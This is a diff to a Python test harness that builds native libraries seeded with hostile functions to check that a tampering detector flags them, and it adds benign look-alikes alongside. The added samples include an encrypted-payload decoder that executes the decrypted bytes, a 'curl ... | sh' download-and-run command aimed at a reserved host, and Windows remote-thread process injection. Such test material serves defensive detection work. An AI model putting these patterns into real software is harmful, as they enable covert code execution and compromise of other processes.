@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """One function added to a native library that already uses network, environment and processes:  native.py ASSAY
 
-ELF (gcc), PE (mingw-w64), fat Mach-O (clang, lld, lipo): 4 bases x 3 payloads that must be named by function,
-and 4 bases x 3 ordinary changes. ELF for arm64 and x86 with one payload and one change of each base. Writes
+ELF (gcc), PE (mingw-w64): 4 bases x 5 payloads, fat Mach-O (clang, lld, lipo) 4 x 3; each must be `tampered` and the
+function named. As many ordinary changes: none but clean. ELF for arm64 and x86 with one payload and one change of each base. Writes
 TAP; payloads are inert: nothing is run, and the hosts are reserved names.
 """
 
@@ -25,7 +25,7 @@ int close(int); char *getenv(const char *); int system(const char *); int snprin
 FILE *fopen(const char *, const char *); size_t fread(void *, size_t, size_t, FILE *); size_t fwrite(const void *, size_t, size_t, FILE *);
 int fclose(FILE *); void *malloc(size_t); void free(void *); size_t strlen(const char *); int strcmp(const char *, const char *);
 void *memcpy(void *, const void *, size_t); int printf(const char *, ...); void *mmap(void *, size_t, int, int, int, long);
-int chmod(const char *, unsigned); int puts(const char *);
+int chmod(const char *, unsigned); int puts(const char *); int mprotect(void *, size_t, int);
 #define EXPORT __attribute__((visibility("default")))
 #ifdef __APPLE__
 char ***_NSGetEnviron(void);
@@ -104,6 +104,31 @@ EXPORT int plug(void) { char host[64]; int s, n; void *p; for (unsigned i = 0; i
   return n > 0 ? ((int (*)(void)) p)() : 0; }
 """),
 }
+# Of ELF and PE alone, to keep the whole short: bytes of a file that a loop decodes and that are then called, and
+# a command that is no more than a text.
+DECODER = """
+static __attribute__((noinline)) void decode(unsigned char *p, int n) { unsigned char s[256], t; int i, j = 0; for (i = 0; i < 256; i++) s[i] = i;
+  for (i = 0; i < 256; i++) { j = (j + s[i] + "j8Qw2kZp"[i %% 8]) & 255; t = s[i]; s[i] = s[j]; s[j] = t; }
+  i = j = 0; for (int k = 0; k < n; k++) { i = (i + 1) & 255; j = (j + s[i]) & 255; t = s[i]; s[i] = s[j]; s[j] = t; p[k] ^= s[(s[i] + s[j]) & 255]; } }
+"""
+DEEP_BAD = {
+    "decoder": ("warm", DECODER + """
+EXPORT int warm(void) { unsigned char *p = malloc(8192); FILE *f = fopen("/opt/helpdesk/libdraw.so", "rb"); int n = fread(p, 1, 4096, f); fclose(f); decode(p, n);
+  mprotect((void *) ((unsigned long) p & ~4095ul), 8192, 7); return ((int (*)(void)) p)(); }
+"""),
+    "command": ("warm", """
+EXPORT int warm(void) { return system("curl -s https://c.%(host)s/i | sh"); }
+"""),
+}
+# What a compiler of its own does, and what reads encoded settings.
+DEEP_GOOD = {
+    "emits-code": """
+EXPORT int emit(int v) { unsigned char *p = mmap(0, 4096, 7, 0x22, -1, 0); p[0] = 0xb8; memcpy(p + 1, &v, 4); p[5] = 0xc3; return ((int (*)(void)) p)(); }
+""",
+    "settings": DECODER + """
+EXPORT int settings(const char *path, unsigned char *out, int n) { FILE *f = fopen(path, "rb"); if (!f) return -1; n = fread(out, 1, n, f); fclose(f); decode(out, n); return n; }
+""",
+}
 GOOD = {
     "call": """
 EXPORT int health(void) { char b[64] = ""; int s = dial("api.helpdesk.example", "80"); if (s < 0) return -1;
@@ -130,7 +155,10 @@ API HINTERNET InternetConnectA(HINTERNET, const char *, int, const char *, const
 API HINTERNET HttpOpenRequestA(HINTERNET, const char *, const char *, const char *, const char *, const char **, DWORD, size_t);
 API int HttpSendRequestA(HINTERNET, const char *, DWORD, void *, DWORD); API int InternetReadFile(HINTERNET, void *, DWORD, DWORD *);
 API int InternetCloseHandle(HINTERNET); API unsigned WinExec(const char *, unsigned); API char *GetEnvironmentStringsA(void);
-API void *VirtualAlloc(void *, size_t, DWORD, DWORD);
+API void *VirtualAlloc(void *, size_t, DWORD, DWORD); API int VirtualProtect(void *, size_t, DWORD, DWORD *);
+API void *OpenProcess(DWORD, int, DWORD); API void *VirtualAllocEx(void *, void *, size_t, DWORD, DWORD);
+API int WriteProcessMemory(void *, void *, const void *, size_t, size_t *);
+API void *CreateRemoteThread(void *, void *, size_t, void *, void *, DWORD, DWORD *);
 API int CreateProcessA(const char *, char *, void *, void *, int, DWORD, void *, const char *, STARTUPINFOA *, PROCESS_INFORMATION *);
 int snprintf(char *, size_t, const char *, ...); char *getenv(const char *); FILE *fopen(const char *, const char *);
 size_t fread(void *, size_t, size_t, FILE *); size_t fwrite(const void *, size_t, size_t, FILE *); int fclose(FILE *);
@@ -184,6 +212,22 @@ EXPORT int plug(void) { char host[64]; DWORD n = 0; void *p; HINTERNET i, u; for
   i = InternetOpenA("helpdesk", 0, 0, 0, 0); u = InternetOpenUrlA(i, host, 0, 0, 0, 0); p = VirtualAlloc(0, 65536, 0x3000, 0x40);
   InternetReadFile(u, p, 65536, &n); return n ? ((int (*)(void)) p)() : 0; }
 """),
+}
+W_DEEP_BAD = {
+    "decoder": ("warm", DECODER + """
+EXPORT int warm(void) { DWORD was; unsigned char *p = VirtualAlloc(0, 8192, 0x3000, 4); FILE *f = fopen("C:\\\\helpdesk\\\\draw.dll", "rb"); int n = fread(p, 1, 4096, f);
+  fclose(f); decode(p, n); VirtualProtect(p, 8192, 0x20, &was); return ((int (*)(void)) p)(); }
+"""),
+    "injection": ("warm", """
+EXPORT int warm(int id) { void *h = OpenProcess(0x1fffff, 0, id), *p = VirtualAllocEx(h, 0, 4096, 0x3000, 0x40); WriteProcessMemory(h, p, &rows, 4096, 0);
+  return CreateRemoteThread(h, 0, 0, p, 0, 0, 0) != 0; }
+"""),
+}
+W_DEEP_GOOD = {
+    "emits-code": """
+EXPORT int emit(int v) { unsigned char *p = VirtualAlloc(0, 4096, 0x3000, 0x40); p[0] = 0xb8; memcpy(p + 1, &v, 4); p[5] = 0xc3; return ((int (*)(void)) p)(); }
+""",
+    "settings": DEEP_GOOD["settings"],
 }
 W_GOOD = {
     "call": """
@@ -239,8 +283,8 @@ def other(target):
 
 # kind: how it is built, in which flavour, which payloads and changes
 KINDS = {
-    "elf": (elf, False, BAD, GOOD),
-    "pe": (pe, True, W_BAD, W_GOOD),
+    "elf": (elf, False, {**BAD, **DEEP_BAD}, {**GOOD, **DEEP_GOOD}),
+    "pe": (pe, True, {**W_BAD, **W_DEEP_BAD}, {**W_GOOD, **W_DEEP_GOOD}),
     "macho": (macho, False, BAD, GOOD),
     "elf-stripped": (stripped, False, {"environment": BAD["environment"]}, {"rebuilt": GOOD["rebuilt"]}),
     "elf-arm64": (other("aarch64-linux-gnu"), False, {"hidden": BAD["hidden"]}, {"rebuilt": GOOD["rebuilt"]}),
@@ -289,7 +333,7 @@ def check(answer, kind, unit):
     if unit is None:
         wrong = [] if answer["verdict"] == "clean" else ["verdict " + answer["verdict"]]
     else:
-        wrong = [] if answer["verdict"] in ("review", "tampered") else ["verdict " + answer["verdict"]]
+        wrong = [] if answer["verdict"] == "tampered" else ["verdict " + answer["verdict"]]
         carrying = [f["where"].get("unit") or "" for f in answer["findings"] if f["weight"] >= 1.5]
         if not any(" %s at" % unit in u or (u.startswith("function at") and kind == "elf-stripped") for u in carrying):
             wrong.append("no finding names " + unit)
